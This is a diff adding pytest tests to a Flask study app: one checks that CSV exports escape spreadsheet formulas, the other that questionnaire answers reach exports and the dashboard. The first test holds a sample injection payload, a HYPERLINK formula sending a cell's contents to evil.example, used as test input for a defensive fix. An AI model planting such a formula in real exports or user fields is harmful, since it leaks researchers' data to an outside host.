@@ -152,3 +152,52 @@ def test_analysis_reads_the_database_directly(simulated: tuple[Flask, list[Any]]
     pd.testing.assert_frame_equal(
         direct.reset_index(drop=True), load_table(export, RESPONSES).reset_index(drop=True), check_dtype=False
     )
+
+
+def test_csv_cells_never_start_a_formula(
+    new_participant: Any, study_app: tuple[Flask, AnswerKey], admin_client: FlaskClient, tmp_path: Path
+) -> None:
+    """Issue 16.8: a screen or User-Agent value starting with '=' reached the researcher's
+    spreadsheet as a formula. Escaped as OWASP recommends; the analysis reads it back exact."""
+    import csv
+
+    from study_app.simulate import csrf_token
+
+    app, _ = study_app
+    agent = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    p = new_participant()
+    p.client.environ_base["HTTP_USER_AGENT"] = agent
+    token = csrf_token(p.client.get("/s/pilot").get_data(as_text=True))
+    form = {"csrf_token": token, "choice": "accept", "screen": "@SUM(1+1)"}
+    assert p.client.post("/s/pilot/consent", data=form).status_code == 302
+    p.post_stage("volume")
+    assert p.answer(p.trial()).status_code == 200
+    out = tmp_path / "r.csv"
+    assert app.test_cli_runner().invoke(args=["export", "pilot", "--out", str(out)]).exit_code == 0
+    download = admin_client.get("/admin/s/pilot/export.csv").get_data(as_text=True)
+    for text in (out.read_text(), download):
+        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+        assert agent not in cells and "'" + agent in cells and "'@SUM(1+1)" in cells
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], "a formula cell"
+    back = load_table(out, RESPONSES)
+    assert set(back["user_agent"]) == {agent} and set(back["screen"]) == {"@SUM(1+1)"}
+
+
+def test_questionnaire_answers_reach_the_export_and_the_dashboard(
+    participant: Any, study_app: tuple[Flask, AnswerKey], admin_client: FlaskClient, tmp_path: Path
+) -> None:
+    """Issue 16.9: questionnaire answers were stored but never exported nor shown."""
+    import json
+
+    app, _ = study_app
+    participant.enter(pid="Q1")
+    participant.complete()  # answers the questionnaire with device = "Headphones"
+    for fmt in ("csv", "parquet"):
+        out = tmp_path / f"r.{fmt}"
+        args = ["export", "pilot", "--format", fmt, "--out", str(out)]
+        assert app.test_cli_runner().invoke(args=args).exit_code == 0
+        answers = load_table(out, RESPONSES)["questionnaire"]
+        assert {json.dumps({"device": "Headphones"})} == set(answers)
+    stats = admin_client.get("/admin/api/s/pilot/stats").get_json()
+    assert [s["questionnaire"] for s in stats["recent_sessions"]] == ["device: Headphones"]
+    assert "device: Headphones" in admin_client.get("/admin/s/pilot").get_data(as_text=True)
